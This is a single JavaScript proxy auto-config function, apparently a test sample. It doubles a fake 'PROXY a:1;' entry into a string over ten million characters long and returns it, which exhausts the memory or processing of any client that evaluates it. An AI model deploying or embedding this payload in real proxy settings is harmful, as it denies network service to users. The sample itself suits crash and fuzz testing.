function FindProxyForURL(url, host) { var s = 'PROXY a:1;'; while (s.length < 10000000) s += s; return s; }
